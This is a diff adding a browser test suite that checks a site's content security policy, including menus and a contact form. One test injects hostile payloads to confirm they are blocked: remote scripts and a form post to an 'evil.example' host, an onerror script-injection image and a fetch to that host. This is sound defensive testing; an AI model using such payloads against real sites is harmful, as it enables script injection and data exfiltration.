@@ -1,0 +1,91 @@
+import type { Page } from 'playwright'
+import { describe } from 'vitest'
+import { alive, expect, origin, test, visitMissing } from './set-up/visit.ts'
+import { routes } from './spec.ts'
+
+/** Writes down what the policy refuses from now on, on every page that is opened. The list grows. */
+async function refusalsOf(page: Page): Promise<string[]> {
+  const refusals: string[] = []
+  await page.exposeFunction('onRefusal', (text: string) => refusals.push(text))
+  await page.addInitScript(() => {
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, documentURI }) =>
+      (window as unknown as { onRefusal: (text: string) => void }).onRefusal(
+        `${documentURI}: ${effectiveDirective} ${blockedURI}`,
+      ),
+    )
+  })
+  return refusals
+}
+
+describe('under its content security policy', () => {
+  test('every page loads, comes alive and shows its photos with no violation', async ({ visit }) => {
+    const page = await visitMissing(visit, '')
+    const refusals = await refusalsOf(page)
+    for (const route of [...routes, '/nowhere']) {
+      const response = await page.goto(route)
+      const policy = response?.headers()['content-security-policy'] ?? ''
+      expect(policy, route).toContain("script-src 'self';")
+      expect(policy).not.toMatch(/script-src[^;]*unsafe|unsafe-eval|\*|style-src [^;]*unsafe/)
+      await alive(page)
+      await page.evaluate(() => {
+        for (const image of document.images) image.loading = 'eager'
+      })
+      await page.waitForFunction(() => [...document.images].every(({ complete }) => complete))
+      await expect(page.locator('img[data-missing]')).toHaveCount(0)
+      expect(await page.locator('script:not([src], [type="application/ld+json"])').count()).toBe(0)
+    }
+    expect(refusals).toEqual([])
+  })
+
+  test.for([1440, 390])('menus, forms and in-site navigation work, %i pixels wide', async (width, { visit }) => {
+    const page = await visit('', { width })
+    const refusals = await refusalsOf(page)
+    await page.goto('/')
+    await alive(page)
+    const header = page.getByRole('banner')
+    const menu = width < 600 ? header.locator('[popovertarget]') : header.getByRole('button', { name: /^Locations/ })
+    await menu.click()
+    await expect(menu).toHaveAttribute('aria-expanded', 'true')
+    await header.getByRole('link', { name: 'La Cala de Mijas' }).filter({ visible: true }).first().click()
+    await expect(page).toHaveURL('/locations/la-cala-de-mijas')
+    await page.goBack()
+    await page.locator('#contact').getByLabel('Full Name').fill('Ana')
+    await page.locator('#contact').getByLabel('Email Address').fill('ana@example.com')
+    await page.locator('#contact').getByRole('button', { name: 'Send my request' }).click()
+    await expect(page.locator('#contact').getByRole('status')).toContainText('Thank you!')
+    expect(refusals).toEqual([])
+  })
+
+  test('what is put in does not run, load or send', async ({ visit }) => {
+    const page = await visit('', { expected: [/Content Security Policy|Refused|violates/i] })
+    const refusals = await refusalsOf(page)
+    await page.goto('/')
+    await page.evaluate(() => {
+      const put = (name: string, attributes: object) =>
+        document.body.append(Object.assign(document.createElement(name), attributes))
+      put('script', { textContent: 'window.pwned = 1' })
+      put('script', { src: 'https://evil.example/x.js' })
+      put('script', { src: 'data:text/javascript,window.pwned=1' })
+      put('style', { textContent: 'body { display: none }' })
+      put('img', { src: 'https://evil.example/x.png' })
+      put('iframe', { src: '/services' })
+      put('object', { data: '/favicon.svg' })
+      put('base', { href: 'https://evil.example/' })
+      put('div', { innerHTML: '<img src="data:," onerror="window.pwned = 1">' })
+      put('form', { action: 'https://evil.example/', method: 'post', id: 'evil' })
+      ;(document.getElementById('evil') as HTMLFormElement).submit()
+      fetch('https://evil.example/').catch(() => {})
+    })
+    const directives = ['base-uri', 'connect-src', 'form-action', 'frame-src', 'img-src', 'object-src'].concat(
+      'script-src-attr',
+      'script-src-elem',
+      'style-src-elem',
+    )
+    await expect
+      .poll(() => [...new Set(refusals.map((text) => text.replace(/^\S+ (\S+).*/, '$1')))].toSorted())
+      .toEqual(directives)
+    expect(await page.evaluate(() => 'pwned' in window)).toBe(false)
+    await expect(page.locator('body')).toBeVisible()
+    await expect(page).toHaveURL(`${origin}/`)
+  })
+})
